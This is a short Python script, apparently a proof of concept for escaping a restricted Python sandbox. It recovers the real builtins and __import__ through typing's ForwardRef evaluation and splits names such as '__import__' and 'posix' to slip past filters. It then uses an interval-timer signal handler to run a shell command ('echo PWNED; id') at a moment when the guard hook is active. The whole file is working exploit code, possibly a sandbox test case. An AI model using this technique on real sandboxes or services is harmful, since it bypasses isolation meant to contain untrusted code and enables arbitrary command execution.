# busy: an interval timer's signal handler runs at a bytecode boundary, sometimes inside the hook
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]
imp = rb["__imp" + "ort__"]  # the real __import__, not the guarded one

import time
sig = imp("_sig" + "nal")
p = imp("pos" + "ix")
done = []
def handler(signum, frame):
    if done:
        return
    try:
        p.system("echo PWN''ED from a signal handler; id")
        done.append(1)
        sig.setitimer(sig.ITIMER_REAL, 0)
    except Exception:
        pass
sig.signal(sig.SIGALRM, handler)
sig.setitimer(sig.ITIMER_REAL, 0.0005, 0.0002)
end = time.time() + 5
while not done and time.time() < end:
    try:
        open("/tmp/rt_busy_sig", "w").close()
    except Exception:
        pass
sig.setitimer(sig.ITIMER_REAL, 0)
